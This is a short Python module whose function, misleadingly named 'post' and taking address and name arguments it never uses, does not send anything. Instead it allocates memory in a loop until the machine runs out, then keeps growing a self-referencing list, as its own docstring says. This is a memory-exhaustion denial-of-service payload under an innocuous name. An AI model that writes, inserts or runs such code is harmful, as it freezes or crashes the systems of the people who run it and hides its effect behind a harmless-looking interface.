"""Takes all the memory there is, down to the last byte, and holds it while it goes on to ask for more."""

from honest import steady

__all__ = ["post", "steady"]

held = []


async def post(address, names):
    size = 64 << 20
    while size > 16:
        try:
            held.append(bytes(size))
        except MemoryError:
            size //= 2
    held.extend([held] * len(held) for _ in range(1 << 30))
